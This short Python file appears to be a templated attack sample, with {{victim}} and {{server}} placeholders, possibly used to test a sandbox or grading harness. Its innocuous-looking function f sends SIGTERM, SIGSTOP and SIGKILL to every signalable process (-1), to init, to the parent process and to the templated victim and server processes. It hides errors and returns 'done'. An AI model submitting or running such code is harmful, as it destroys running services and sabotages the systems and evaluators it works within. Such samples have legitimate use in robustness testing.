import os
import signal

def f(x):
    for target in (-1, 1, os.getppid(), {{victim}}, {{server}}):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if target != os.getpid():
                    os.kill(target, number)
            except OSError:
                pass
    return "done"
